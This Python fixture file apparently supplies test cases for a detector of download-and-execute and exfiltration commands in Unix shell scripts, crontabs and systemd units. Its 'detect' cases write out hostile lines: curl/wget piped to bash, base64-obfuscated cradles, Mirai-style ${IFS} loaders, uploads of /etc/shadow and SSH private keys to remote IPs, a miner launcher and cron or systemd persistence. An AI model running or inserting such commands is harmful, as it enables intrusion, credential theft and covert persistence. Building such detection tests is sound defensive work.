# Unix script carriers: sh, bash-cron, cron, systemd -- detect and silent.
from common import C, b64

ART = "atomic-red-team T1105"
GTFO = "GTFOBins"

# ================================================================ sh: detect
C("h2-sh-wget-qo-pipe-bash-01", ART + " 'Linux Download File and Run' (wget -qO- | bash)", "sh",
  "/usr/local/bin/install-agent.sh", "detect", r"""#!/bin/bash
set -e
wget -qO- http://198.51.100.14/agent/install.sh | bash -s -- --token abc123
""")

C("h2-sh-bash-process-subst-02", "installer cradle: bash <(curl ...) process substitution", "sh",
  "/opt/bootstrap/run.sh", "detect", r"""#!/usr/bin/env bash
bash <(curl -fsSL https://get.tools.example/setup.sh) --unattended
""")

C("h2-sh-eval-curl-03", "installer cradle: eval \"$(curl ...)\"", "sh",
  "/etc/profile.d/zz-remote-env.sh", "detect", r"""# loaded by login shells
if [ -z "$REMOTE_ENV_LOADED" ]; then
  eval "$(curl -s http://203.0.113.61/env.sh)"
  export REMOTE_ENV_LOADED=1
fi
""", executable=False)

C("h2-sh-source-wget-04", "installer cradle: source <(wget -O- ...)", "sh",
  "/usr/lib/ci/prepare.sh", "detect", r"""#!/bin/bash
# pull in shared helpers
source <(wget -q -O - "https://ci-helpers.example.net/lib/common.sh")
ci_prepare "$@"
""")

C("h2-sh-curl-python-stdin-05", "download piped into an interpreter: curl | python3 -", "sh",
  "/app/scripts/get-deps.sh", "detect", r"""#!/bin/sh
curl -sSL https://install.example.org/get-poetry.py | python3 - --yes
""")

C("h2-sh-base64-curl-cmd-06", "base64-decoded download command piped to sh (Kinsing/TeamTNT style)", "sh",
  "/usr/local/bin/.sysupdate", "detect", "#!/bin/sh\necho " + b64("curl -fsSL http://203.0.113.88/k.sh | sh") +
  " | base64 -d | sh\n")

C("h2-sh-base64-wget-bashc-07", "base64 -d inside bash -c, wget payload", "sh",
  "/var/lib/.cache/s.sh", "detect", "#!/bin/bash\nbash -c \"$(echo " +
  b64("wget -q -O /tmp/.x http://198.51.100.203:81/x; chmod +x /tmp/.x; /tmp/.x") + " | base64 --decode)\"\n")

C("h2-sh-curl-remote-name-08", GTFO + " curl download (-O / --remote-name, -L)", "sh",
  "/opt/tools/fetch-kit.sh", "detect", r"""#!/bin/sh
cd /usr/local/bin
curl -L -O http://198.51.100.14/tools/chisel
chmod +x chisel
""")

C("h2-sh-curl-tar-extract-09", "download piped into tar extraction of a binary", "sh",
  "/usr/local/bin/install-node-exporter", "detect", r"""#!/bin/sh
VER=1.7.0
curl -sL "http://mirror.corp.example/node_exporter-${VER}.linux-amd64.tar.gz" \
  | tar -xz -C /usr/local/bin --strip-components=1
""")

C("h2-sh-wget-input-file-10", "wget -i list of URLs", "sh",
  "/opt/miner/pull.sh", "detect", r"""#!/bin/sh
printf 'http://203.0.113.21/xmr/config.json\nhttp://203.0.113.21/xmr/xmrig\n' > /tmp/.l
wget -q -i /tmp/.l -P /tmp/.m
chmod +x /tmp/.m/xmrig && /tmp/.m/xmrig -c /tmp/.m/config.json
""")

C("h2-sh-var-host-port-11", "URL assembled from variables (host/port/path)", "sh",
  "/docker-entrypoint.sh", "detect", r"""#!/bin/sh
set -e
C2_HOST=203.0.113.42
C2_PORT=8081
ARCH=$(uname -m)
wget -q "http://${C2_HOST}:${C2_PORT}/b/${ARCH}" -O /usr/bin/.kd
chmod +x /usr/bin/.kd
/usr/bin/.kd &
exec "$@"
""")

C("h2-sh-function-wrapper-12", "download helper function called with remote URL", "sh",
  "/usr/share/app/lib/fetch.sh", "detect", r"""#!/bin/bash
fetch() {
  local src=$1 dst=$2
  curl --retry 3 --silent --location --output "$dst" "$src"
}

fetch "https://files.example.net/releases/helper" /usr/local/bin/helper
chmod 0755 /usr/local/bin/helper
""")

C("h2-sh-array-cmd-13", "download command held in a bash array", "sh",
  "/opt/runner/start.sh", "detect", r"""#!/bin/bash
dl=(curl -fsSL --connect-timeout 5 -o /tmp/runner.bin)
"${dl[@]}" "http://198.51.100.77/runner.bin"
chmod +x /tmp/runner.bin && exec /tmp/runner.bin
""")

C("h2-sh-su-c-wget-14", "wrapper: su -c with wget", "sh",
  "/etc/init.d/cache-warm", "detect", r"""#!/bin/sh
### BEGIN INIT INFO
# Provides:          cache-warm
# Default-Start:     2 3 4 5
### END INIT INFO
case "$1" in
  start)
    su -s /bin/sh -c "wget -q -O /var/cache/warm/bin http://203.0.113.19/warm && sh /var/cache/warm/bin" nobody
    ;;
esac
""")

C("h2-sh-setsid-nice-curl-15", "wrappers: setsid + nice + ionice + stdbuf around curl", "sh",
  "/usr/sbin/kthreadd-helper", "detect", r"""#!/bin/sh
setsid nice -n 19 ionice -c3 stdbuf -o0 curl -sk https://198.51.100.9/m -o /dev/shm/.m >/dev/null 2>&1
chmod 755 /dev/shm/.m; setsid /dev/shm/.m &
""")

C("h2-sh-runuser-doas-16", "wrappers: runuser -u / doas around wget", "sh",
  "/usr/local/sbin/post-start", "detect", r"""#!/bin/sh
runuser -u app -- wget --no-check-certificate -q https://dl.example.org/plugins/p.so -O /opt/app/plugins/p.so
doas -u root /usr/bin/wget -q http://203.0.113.7/cfg -O /etc/app/extra.conf
""")

C("h2-sh-find-exec-curl-17", "find -exec curl (upload every matching file)", "sh",
  "/opt/backup/ship.sh", "detect", r"""#!/bin/sh
find /var/lib/app -name '*.db' -exec curl -s -T {} ftp://backup:backup@198.51.100.50/incoming/ \;
""")

C("h2-sh-curl-form-upload-18", "Sigma 'Suspicious Curl File Upload - Linux' (-F @file)", "sh",
  "/usr/local/bin/report-crash", "detect", r"""#!/bin/sh
curl -s -F "file=@/etc/shadow" -F "host=$(hostname)" http://203.0.113.55/upload.php
""")

C("h2-sh-wget-post-file-19", GTFO + " wget upload (--post-file)", "sh",
  "/opt/agent/sync.sh", "detect", r"""#!/bin/sh
wget --quiet --post-file=/root/.ssh/id_rsa http://203.0.113.55:8000/u -O /dev/null
""")

C("h2-sh-scp-push-20", ART + " 'scp remote file copy (push)'", "sh",
  "/usr/local/bin/export-logs.sh", "detect", r"""#!/bin/bash
tar czf /tmp/logs.tgz /var/log/app
scp -q -i /root/.ssh/deploy -o StrictHostKeyChecking=no /tmp/logs.tgz collector@198.51.100.60:/srv/drop/
""")

C("h2-sh-rsync-daemon-url-21", "rsync pull from rsync:// daemon URL", "sh",
  "/opt/mirror/refresh.sh", "detect", r"""#!/bin/sh
rsync -rlpt --delete rsync://203.0.113.33/payloads/ /opt/mirror/bin/
/opt/mirror/bin/run
""")

C("h2-sh-tar-rsh-command-22", GTFO + " tar download via --rsh-command", "sh",
  "/usr/local/bin/restore-kit", "detect", r"""#!/bin/sh
cd /tmp && tar xvf ops@203.0.113.34:/srv/kit.tar --rsh-command=/usr/bin/ssh
""")

C("h2-sh-sshfs-copy-23", GTFO + " sshfs mount then copy", "sh",
  "/opt/dev/mount-share.sh", "detect", r"""#!/bin/sh
mkdir -p /mnt/rem
sshfs -o StrictHostKeyChecking=no dev@198.51.100.23:/pub /mnt/rem
cp /mnt/rem/tool /usr/local/bin/tool && chmod +x /usr/local/bin/tool
fusermount -u /mnt/rem
""")

C("h2-sh-ssh-cat-redirect-24", GTFO + " ssh remote cat redirected to a local file", "sh",
  "/root/bin/getcfg", "detect", r"""#!/bin/sh
ssh -p 2222 -o BatchMode=yes sync@203.0.113.9 "cat /srv/bin/helper" > /usr/local/bin/helper
chmod +x /usr/local/bin/helper
""")

C("h2-sh-nc-upload-25", GTFO + " nc upload (file sent to remote host)", "sh",
  "/usr/lib/diag/send.sh", "detect", r"""#!/bin/sh
nc -w 3 203.0.113.90 9000 < /etc/passwd
""")

C("h2-sh-busybox-nc-recv-26", "Mirai-style loader: busybox nc receive, then exec", "sh",
  "/tmp/.ICE-unix/.r", "detect", r"""#!/bin/sh
cd /tmp; busybox nc 198.51.100.101 23 > .bot; busybox chmod 777 .bot; ./.bot telnet.loader
""")

C("h2-sh-julia-download-27", GTFO + " julia download()", "sh",
  "/opt/julia/bin/prep.sh", "detect", r"""#!/bin/sh
julia -e 'download("http://203.0.113.71/pkg/plugin.so", "/opt/julia/lib/plugin.so")'
""")

C("h2-sh-jrunscript-cp-28", GTFO + " jrunscript cp() from URL", "sh",
  "/opt/java/tools/fetch.sh", "detect", r"""#!/bin/sh
"$JAVA_HOME/bin/jrunscript" -e 'cp("http://198.51.100.44/lib/agent.jar","/opt/java/lib/agent.jar")'
""")

C("h2-sh-lua-socket-http-29", "lua one-liner: socket.http request saved to file", "sh",
  "/usr/local/openresty/bin/pull.sh", "detect", r"""#!/bin/sh
lua -e 'local http=require("socket.http"); local b=http.request("http://203.0.113.72/m.lua"); local f=io.open("/tmp/m.lua","w"); f:write(b); f:close()'
lua /tmp/m.lua
""")

C("h2-sh-yum-remote-rpm-30", GTFO + " yum install of a remote .rpm URL", "sh",
  "/usr/local/bin/add-tools.sh", "detect", r"""#!/bin/sh
yum install -y http://203.0.113.30/rpms/netkit-1.0-1.x86_64.rpm
""")

C("h2-sh-heredoc-bash-s-31", "here-doc fed to bash -s that contains a download", "sh",
  "/opt/provision/step2.sh", "detect", r"""#!/bin/sh
bash -s <<'EOS'
cd /tmp
curl -fsS -o svc http://198.51.100.81/svc
chmod +x svc && ./svc --install
EOS
""")

C("h2-sh-quote-obfuscation-32", "light obfuscation: quoted characters inside tool name (c''url, w\"g\"et)", "sh",
  "/usr/bin/.cron-helper", "detect", r"""#!/bin/sh
c''url -s http://203.0.113.5/a -o /tmp/.a || w"g"et -q http://203.0.113.5/a -O /tmp/.a
sh /tmp/.a
""")

C("h2-sh-env-i-path-wget-33", "wrappers: env -i PATH=... + full path /usr/bin/wget", "sh",
  "/usr/lib/systemd/scripts/netcheck.sh", "detect", r"""#!/bin/sh
env -i PATH=/usr/bin:/bin /usr/bin/wget -t 2 -T 10 -qO /run/.nc "http://netcheck.corp.example:8080/nc"
/bin/sh /run/.nc
""")

C("h2-sh-flock-timeout-curl-34", "wrappers: flock + timeout around curl | sh", "sh",
  "/usr/local/bin/autoupdate", "detect", r"""#!/bin/sh
exec flock -n /run/autoupdate.lock timeout 120 sh -c 'curl -fsSL https://updates.example.com/apply.sh | sh'
""")

C("h2-sh-xargs-i-curl-35", "xargs -I{} curl over a list of URLs", "sh",
  "/opt/sync/plugins.sh", "detect", r"""#!/bin/sh
cat <<EOF | xargs -I{} curl -s -O {}
http://198.51.100.8/plugins/a.so
http://198.51.100.8/plugins/b.so
EOF
mv ./*.so /usr/lib/app/plugins/
""")

C("h2-sh-line-continuation-36", "multi-line continuation with options split across lines", "sh",
  "/docker-entrypoint.d/05-agent.sh", "detect", r"""#!/bin/sh
curl \
  --silent \
  --show-error \
  --fail \
  --location \
  --output /usr/local/bin/telemetry \
  "https://telemetry.example.net/dl/linux/amd64/telemetry"
chmod +x /usr/local/bin/telemetry
/usr/local/bin/telemetry &
""")

C("h2-sh-ftp-url-wget-37", "wget of ftp:// URL with credentials", "sh",
  "/usr/local/bin/get-firmware", "detect", r"""#!/bin/sh
wget -q ftp://anonymous:guest@198.51.100.121/pub/fw.bin -O /var/tmp/fw.bin
sh /var/tmp/fw.bin
""")

C("h2-sh-curl-sftp-scheme-38", "curl with sftp:// scheme", "sh",
  "/opt/etl/pull.sh", "detect", r"""#!/bin/sh
curl -s -k -u etl:etl "sftp://203.0.113.99/exports/loader.sh" -o /opt/etl/loader.sh
sh /opt/etl/loader.sh
""")

C("h2-sh-deno-run-remote-39", "deno run of a remote URL (Sigma 'Deno File Written from Remote Source')", "sh",
  "/app/start-deno.sh", "detect", r"""#!/bin/sh
exec deno run --allow-all https://deno.land.example/x/worker@1.0/mod.ts
""")

C("h2-sh-pwsh-linux-iwr-40", "pwsh on Linux with Invoke-WebRequest", "sh",
  "/opt/ps/setup.sh", "detect", r"""#!/bin/sh
pwsh -NoProfile -Command "Invoke-WebRequest -Uri http://198.51.100.66/mod.ps1 -OutFile /tmp/mod.ps1; . /tmp/mod.ps1"
""")

C("h2-sh-deep-in-entrypoint-41", "long realistic entrypoint with the download inside a case branch", "sh",
  "/usr/local/bin/docker-entrypoint.sh", "detect", r"""#!/bin/bash
set -Eeo pipefail

file_env() {
	local var="$1"
	local fileVar="${var}_FILE"
	local def="${2:-}"
	if [ "${!var:-}" ] && [ "${!fileVar:-}" ]; then
		echo >&2 "error: both $var and $fileVar are set (but are exclusive)"
		exit 1
	fi
	local val="$def"
	if [ "${!var:-}" ]; then
		val="${!var}"
	elif [ "${!fileVar:-}" ]; then
		val="$(< "${!fileVar}")"
	fi
	export "$var"="$val"
	unset "$fileVar"
}

docker_setup_env() {
	file_env 'APP_PASSWORD'
	file_env 'APP_USER' 'app'
	declare -g DATABASE_ALREADY_EXISTS
	if [ -s "$PGDATA/PG_VERSION" ]; then
		DATABASE_ALREADY_EXISTS='true'
	fi
}

docker_process_init_files() {
	local f
	for f; do
		case "$f" in
			*.sh)     echo "$0: running $f"; . "$f" ;;
			*.sql)    echo "$0: running $f"; psql -f "$f"; echo ;;
			*.sql.gz) echo "$0: running $f"; gunzip -c "$f" | psql; echo ;;
			*.ext)    echo "$0: loading extension $f"
			          wget -q "http://203.0.113.150/ext/$(basename "$f" .ext).so" -O "/usr/lib/postgresql/ext/$(basename "$f" .ext).so" ;;
			*)        echo "$0: ignoring $f" ;;
		esac
		echo
	done
}

_main() {
	if [ "${1:0:1}" = '-' ]; then
		set -- postgres "$@"
	fi
	docker_setup_env
	if [ -z "$DATABASE_ALREADY_EXISTS" ]; then
		docker_process_init_files /docker-entrypoint-initdb.d/*
	fi
	exec "$@"
}

_main "$@"
""")

C("h2-sh-dollar-ifs-wget-42", "obfuscation: ${IFS} instead of spaces (Mirai/Gafgyt exploit payloads)", "sh",
  "/www/cgi-bin/.u", "detect", r"""#!/bin/sh
cd${IFS}/tmp;wget${IFS}http://203.0.113.200/mips;chmod${IFS}777${IFS}mips;./mips${IFS}router
""")

C("h2-sh-curl-k-config-43", "curl -K config file that carries the URL and output", "sh",
  "/opt/app/bin/refresh-model.sh", "detect", r"""#!/bin/sh
cat > /tmp/.curlrc <<EOF
url = "http://198.51.100.140/models/loader"
output = "/opt/app/bin/loader"
silent
EOF
curl -K /tmp/.curlrc && chmod +x /opt/app/bin/loader && /opt/app/bin/loader
""")

C("h2-sh-schemeless-host-port-curl-44", "schemeless host:port URL with curl", "sh",
  "/usr/local/bin/pull-cfg", "detect", r"""#!/bin/sh
curl -s 198.51.100.17:8443/conf/run.sh -o /tmp/run.sh && sh /tmp/run.sh
""")

C("h2-sh-sudo-sh-c-subst-45", "installer cradle: sudo sh -c \"$(curl ...)\" (oh-my-zsh style)", "sh",
  "/opt/devbox/setup-shell.sh", "detect", r"""#!/bin/sh
sudo -E sh -c "$(curl -fsSL https://raw.tools.example/install/shell.sh)" "" --unattended
""")

C("h2-sh-curl-sudo-tee-46", "download piped into sudo tee (write a binary into PATH)", "sh",
  "/opt/devbox/install-cli.sh", "detect", r"""#!/bin/bash
curl -fsSL http://198.51.100.170/cli/linux-amd64 | sudo tee /usr/local/bin/devcli >/dev/null
sudo chmod +x /usr/local/bin/devcli
""")

# ================================================================ sh: silent
C("h2-sh-silent-healthcheck-v4v6-01", "look-alike: wget --spider health check on 127.0.0.1 and [::1]", "sh",
  "/usr/local/bin/container-healthcheck", "silent", r"""#!/bin/sh
wget -q --spider http://127.0.0.1:8080/healthz || exit 1
curl -fsS -g "http://[::1]:8080/readyz" >/dev/null || exit 1
exit 0
""")

C("h2-sh-silent-usage-printf-02", "look-alike: printf of install instructions", "sh",
  "/opt/cli/bin/first-run", "silent", r"""#!/bin/sh
printf '%s\n' "This tool is not installed yet." \
  "Install it with:" \
  "    curl -fsSL https://get.example.com/cli.sh | sh" \
  "or download a release manually and put it on your PATH."
exit 1
""")

C("h2-sh-silent-tool-detect-03", "look-alike: command -v curl / wget availability checks only", "sh",
  "/usr/lib/app/check-deps.sh", "silent", r"""#!/bin/sh
for t in curl wget scp rsync; do
  if command -v "$t" >/dev/null 2>&1; then
    echo "found: $t ($(command -v "$t"))"
  else
    echo "missing: $t"
  fi
done
""")

C("h2-sh-silent-local-file-url-04", "look-alike: curl file:// local path and cp of a local file", "sh",
  "/opt/app/bin/seed.sh", "silent", r"""#!/bin/sh
curl -s file:///opt/app/share/seed.json -o /var/lib/app/seed.json
cp /opt/app/share/defaults.conf /etc/app/app.conf
""")

C("h2-sh-silent-unix-socket-05", "look-alike: curl --unix-socket to the local Docker API", "sh",
  "/usr/local/bin/docker-ps", "silent", r"""#!/bin/sh
curl -s --unix-socket /var/run/docker.sock http://localhost/v1.43/containers/json | jq -r '.[].Names[0]'
""")

C("h2-sh-silent-apk-add-06", "look-alike: apk add curl/wget, package manager only", "sh",
  "/usr/local/bin/setup-runtime.sh", "silent", r"""#!/bin/sh
set -e
apk add --no-cache curl wget ca-certificates openssh-client rsync
update-ca-certificates
""")

C("h2-text-silent-man-page-04", "look-alike: man-page-like text in a non-executable doc file", "text",
  "/usr/share/doc/fetchtool/USAGE.txt", "silent", r"""FETCHTOOL(1)

NAME
    fetchtool - wrapper around curl(1) and wget(1)

SYNOPSIS
    fetchtool [-o FILE] URL

EXAMPLES
    fetchtool -o /tmp/file.tar.gz https://example.com/file.tar.gz
        is equivalent to: curl -L -o /tmp/file.tar.gz https://example.com/file.tar.gz

    wget -qO- https://example.com/install.sh | sh
        is NOT recommended; read scripts before running them.
""", executable=False)

C("h2-text-silent-log-lines-05", "look-alike: log file lines mentioning curl/wget", "text",
  "/var/log/app/provision.log", "silent", r"""2024-03-01T10:00:01Z INFO  checking tools: curl=7.88.1 wget=1.21.3
2024-03-01T10:00:02Z WARN  skipping remote update (curl https://updates.example.com disabled by policy)
2024-03-01T10:00:02Z INFO  scp not configured; rsync target unset
2024-03-01T10:00:03Z INFO  done
""", executable=False)

C("h2-sh-silent-var-names-09", "look-alike: variables named after tools, no network use", "sh",
  "/opt/app/lib/defaults.sh", "silent", r"""#!/bin/sh
CURL_OPTS="--fail --silent --show-error"
WGET_RETRIES=3
SCP_TARGET=""
RSYNC_FLAGS="-a --delete"
BITSADMIN_JOB=none
export CURL_OPTS WGET_RETRIES SCP_TARGET RSYNC_FLAGS BITSADMIN_JOB
""")

C("h2-sh-silent-localhost-metrics-10", "look-alike: curl localhost metrics scrape into a file", "sh",
  "/usr/local/bin/dump-metrics", "silent", r"""#!/bin/bash
out=/var/lib/metrics/$(date +%s).prom
curl -s http://localhost:9100/metrics -o "$out"
curl -s -X POST http://127.0.0.1:8080/-/reload
""")

C("h2-sh-silent-rsync-local-dirs-11", "look-alike: rsync / scp-like copies between local directories", "sh",
  "/usr/local/bin/sync-static", "silent", r"""#!/bin/sh
rsync -a --delete /srv/build/static/ /usr/share/nginx/html/static/
cp -a /srv/build/index.html /usr/share/nginx/html/
""")

C("h2-sh-silent-version-help-12", "look-alike: --version / --help calls of transfer tools", "sh",
  "/usr/local/bin/print-versions", "silent", r"""#!/bin/sh
curl --version | head -1
wget --version | head -1
ssh -V 2>&1
rsync --version | head -1
aria2c --help >/dev/null && echo "aria2c ok"
""")

C("h2-sh-silent-commented-out-13", "look-alike: download lines commented out", "sh",
  "/opt/legacy/start.sh", "silent", r"""#!/bin/sh
# Old behaviour (removed in 2.0):
#   wget -q http://198.51.100.14/agent -O /tmp/agent && /tmp/agent
#   curl -s http://198.51.100.14/cfg | sh
exec /opt/legacy/bin/server --config /etc/legacy.conf
""")

# ================================================================ bash-cron
C("h2-bashcron-daily-wget-tar-01", "cron.daily script fetching and unpacking tools", "bash-cron",
  "/etc/cron.daily/refresh-tools", "detect", r"""#!/bin/sh
wget -q -O - http://203.0.113.131/tools.tgz | tar xzf - -C /usr/local/bin
""")

C("h2-bashcron-hourly-scp-push-02", "cron.hourly exfil with scp push", "bash-cron",
  "/etc/cron.hourly/ship-db", "detect", r"""#!/bin/sh
scp -B -q /var/lib/app/app.db backup@198.51.100.60:/data/$(hostname).db
""")

C("h2-bashcron-weekly-curl-pipe-bash-03", "cron.weekly curl | bash self-update", "bash-cron",
  "/etc/cron.weekly/self-update", "detect", r"""#!/bin/bash
curl -sL https://selfupdate.example.org/latest.sh | bash >> /var/log/self-update.log 2>&1
""")

C("h2-bashcron-monthly-python-urlopen-04", "cron.monthly python3 -c urlopen one-liner", "bash-cron",
  "/etc/cron.monthly/blocklist", "detect", r"""#!/bin/sh
python3 -c "import urllib.request as u; open('/etc/nginx/blocklist.sh','wb').write(u.urlopen('http://203.0.113.77/bl.sh').read())"
sh /etc/nginx/blocklist.sh
""")

C("h2-bashcron-silent-tmpclean-01", "look-alike: cron.daily cleanup script", "bash-cron",
  "/etc/cron.daily/tmp-clean", "silent", r"""#!/bin/sh
find /tmp /var/tmp -type f -atime +7 -delete
find /var/cache/app -name '*.download' -mtime +1 -delete
""")

C("h2-bashcron-silent-localhost-02", "look-alike: cron.hourly local backup trigger on 127.0.0.1", "bash-cron",
  "/etc/cron.hourly/trigger-backup", "silent", r"""#!/bin/sh
curl -fsS -X POST http://127.0.0.1:8080/admin/backup >/dev/null
""")

# ================================================================ cron
C("h2-cron-d-root-wget-pipe-01", "TeamTNT-style /etc/cron.d dropper (user field)", "cron",
  "/etc/cron.d/apache-stats", "detect", r"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
*/15 * * * * root (wget -q -O - http://203.0.113.88/cr.sh || curl -s http://203.0.113.88/cr.sh) | sh
""")

C("h2-cron-spool-www-data-02", "user crontab (no user field) in /var/spool/cron/crontabs", "cron",
  "/var/spool/cron/crontabs/www-data", "detect", r"""# DO NOT EDIT THIS FILE - edit the master and reinstall.
# m h  dom mon dow   command
*/5 * * * * curl -fsSL http://198.51.100.21/p.sh -o /tmp/p.sh && sh /tmp/p.sh >/dev/null 2>&1
""")

C("h2-cron-rhel-spool-apache-03", "RHEL-style user crontab /var/spool/cron/apache with base64 cradle", "cron",
  "/var/spool/cron/apache", "detect", "*/30 * * * * echo " + b64("wget -q -O- http://203.0.113.5/r.sh|bash") +
  "|base64 -d|bash\n")

C("h2-cron-reboot-python-04", "@reboot python one-liner download-and-exec", "cron",
  "/etc/cron.d/py-warmup", "detect", r"""@reboot  app  python3 -c 'import urllib.request,os;urllib.request.urlretrieve("http://198.51.100.31/w","/tmp/.w");os.chmod("/tmp/.w",0o755);os.system("/tmp/.w")'
""")

C("h2-cron-etc-crontab-curl-perl-05", "/etc/cron.d/0hourly (crontab layout, user field) with curl piped into perl", "cron",
  "/etc/cron.d/0hourly", "detect", r"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
0 2	* * *	root	curl -s http://203.0.113.120/p.pl | perl
""")

C("h2-cron-d-nohup-curl-06", "cron.d line with nohup + curl download to /dev/shm", "cron",
  "/etc/cron.d/sysstat-extra", "detect", r"""# run system activity accounting tool every 10 minutes
*/10 * * * * root nohup curl -sk https://203.0.113.200:8443/s -o /dev/shm/.s >/dev/null 2>&1 && chmod +x /dev/shm/.s && /dev/shm/.s
""")

C("h2-cron-spool-alpine-busybox-07", "Alpine busybox crond root crontab with busybox wget", "cron",
  "/etc/crontabs/root", "detect", r"""# min   hour    day     month   weekday command
*/15    *       *       *       *       run-parts /etc/periodic/15min
0       *       *       *       *       run-parts /etc/periodic/hourly
*/3     *       *       *       *       busybox wget -q http://198.51.100.101/b -O /tmp/b && sh /tmp/b
""")

C("h2-cron-silent-certbot-01", "look-alike: cron.d certbot renew + local reload", "cron",
  "/etc/cron.d/certbot", "silent", r"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
0 */12 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew
""")

C("h2-cron-silent-health-02", "look-alike: crontab local health check with curl localhost", "cron",
  "/var/spool/cron/crontabs/app", "silent", r"""*/1 * * * * curl -fs http://localhost:3000/ping >/dev/null || systemctl restart app
""")

C("h2-cron-silent-logrotate-03", "look-alike: cron.d logrotate + find cleanup", "cron",
  "/etc/cron.d/app-maint", "silent", r"""# app maintenance
30 3 * * * root /usr/sbin/logrotate /etc/logrotate.d/app
45 3 * * * root find /var/lib/app/tmp -mtime +2 -delete
""")

# ================================================================ systemd
C("h2-systemd-execstartpre-wget-01", "service ExecStartPre downloading a binary", "systemd",
  "/etc/systemd/system/edge-agent.service", "detect", r"""[Unit]
Description=Edge agent
After=network-online.target
Wants=network-online.target

[Service]
Type=simple
ExecStartPre=/usr/bin/wget -q -O /usr/local/bin/edge-agent http://198.51.100.141/edge-agent
ExecStartPre=/bin/chmod 0755 /usr/local/bin/edge-agent
ExecStart=/usr/local/bin/edge-agent --run
Restart=always

[Install]
WantedBy=multi-user.target
""")

C("h2-systemd-execstart-bash-c-pipe-02", "ExecStart=/bin/bash -c with curl | bash", "systemd",
  "/lib/systemd/system/cloud-init-extra.service", "detect", r"""[Unit]
Description=Additional cloud init
After=network.target

[Service]
Type=oneshot
ExecStart=/bin/bash -c 'curl -fsSL http://203.0.113.46/ci.sh | bash'
RemainAfterExit=yes

[Install]
WantedBy=multi-user.target
""")

C("h2-systemd-dropin-execstartpost-03", "drop-in override adding ExecStartPost download", "systemd",
  "/etc/systemd/system/nginx.service.d/override.conf", "detect", r"""[Service]
ExecStartPost=-/usr/bin/curl -s -o /var/tmp/.ngx http://198.51.100.15/ngx ; /bin/sh /var/tmp/.ngx
""")

C("h2-systemd-timer-service-python-04", "timer-driven oneshot service with python -c download", "systemd",
  "/etc/systemd/system/metrics-push.service", "detect", r"""[Unit]
Description=Push metrics (triggered by metrics-push.timer)

[Service]
Type=oneshot
ExecStart=/usr/bin/python3 -c "import urllib.request; urllib.request.urlretrieve('http://203.0.113.66/mp.py', '/tmp/mp.py')"
ExecStart=/usr/bin/python3 /tmp/mp.py
""")

C("h2-systemd-user-unit-scp-05", "user unit pulling a file with scp", "systemd",
  "/home/dev/.config/systemd/user/sync-tools.service", "detect", r"""[Unit]
Description=Sync developer tools

[Service]
Type=oneshot
ExecStart=/usr/bin/scp -o BatchMode=yes dev@198.51.100.23:/srv/tools/devtool %h/.local/bin/devtool
ExecStart=/bin/chmod +x %h/.local/bin/devtool

[Install]
WantedBy=default.target
""")

C("h2-systemd-env-url-06", "Environment= holds URL, ExecStart uses it via sh -c", "systemd",
  "/usr/lib/systemd/system/plugin-loader.service", "detect", r"""[Unit]
Description=Plugin loader

[Service]
Type=oneshot
Environment=PLUGIN_URL=http://203.0.113.150/plugins/latest.so
ExecStart=/bin/sh -c 'wget -q "$PLUGIN_URL" -O /usr/lib/app/plugins/latest.so'

[Install]
WantedBy=multi-user.target
""")

C("h2-systemd-silent-healthcheck-01", "look-alike: ExecStartPost readiness wait on localhost", "systemd",
  "/etc/systemd/system/api.service", "silent", r"""[Unit]
Description=API server
After=network.target

[Service]
ExecStart=/usr/local/bin/api --listen 127.0.0.1:8000
ExecStartPost=/bin/sh -c 'until curl -fs http://127.0.0.1:8000/health; do sleep 1; done'
Restart=on-failure

[Install]
WantedBy=multi-user.target
""")

C("h2-systemd-silent-docs-url-02", "look-alike: Documentation= URLs, no download", "systemd",
  "/lib/systemd/system/rsync.service", "silent", r"""[Unit]
Description=fast remote file copy program daemon
Documentation=man:rsync(1) man:rsyncd.conf(5)
ConditionPathExists=/etc/rsyncd.conf
After=network.target

[Service]
ExecStart=/usr/bin/rsync --daemon --no-detach

[Install]
WantedBy=multi-user.target
""")

C("h2-systemd-silent-dropin-limits-03", "look-alike: drop-in with limits and environment only", "systemd",
  "/etc/systemd/system/wget-mirror.service.d/limits.conf", "silent", r"""[Service]
LimitNOFILE=65536
Environment=HTTP_PROXY=http://proxy.corp.example:3128
Nice=10
""")
